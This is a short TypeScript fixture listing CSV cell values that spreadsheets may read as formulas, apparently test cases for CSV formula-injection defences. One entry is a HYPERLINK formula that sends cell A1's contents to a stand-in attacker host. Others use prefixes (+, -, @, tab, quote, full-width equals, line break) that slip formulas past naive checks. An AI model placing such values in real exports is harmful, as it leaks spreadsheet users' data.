/** What stands in a cell, and what a spreadsheet would take for a formula in it. */
export type CsvRow = [title: string, cell: string];

export const csvRows: readonly CsvRow[] = [
  ["B151 =HYPERLINK(", '=HYPERLINK("https://evil.example/?"&A1,"click")'],
  ["B152 +1", "+1"],
  ["B153 -1+2", "-1+2"],
  ["B154 @SUM", "@SUM(A1:A9)"],
  ["B155 a tab before =", "\t=1+1"],
  ["B156 a quote before =", '"=1'],
  ["B157 a full-width =", "＝1+1"],
  ["B158 a line break before =", "\n=1+1"],
];
